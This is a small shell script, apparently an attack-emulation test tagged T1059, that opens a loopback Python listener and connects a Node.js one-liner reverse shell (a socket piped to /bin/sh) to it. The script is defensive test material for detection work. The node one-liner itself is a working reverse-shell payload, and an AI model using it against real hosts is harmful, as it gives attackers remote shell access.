#!/bin/sh
# T1059 (node), a Node.js one-liner reverse shell: net.Socket piped to a child /bin/sh,
# against a loopback listener.
set -e
port=$((35000 + $$ % 10000))
ready=$(mktemp -u)
/usr/bin/python3 - "$port" "$ready" <<'PY' &
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(10)
open(sys.argv[2], "w").close()
c, _ = s.accept(); c.sendall(b"exit\n"); time.sleep(1); c.close()
PY
listener=$!
i=0; until [ -e "$ready" ] || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
node -e "var n=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new n.Socket();c.connect($port,'127.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});sh.on('exit',function(){c.destroy();});" 2>/dev/null || true
wait "$listener" || true
rm -f "$ready"
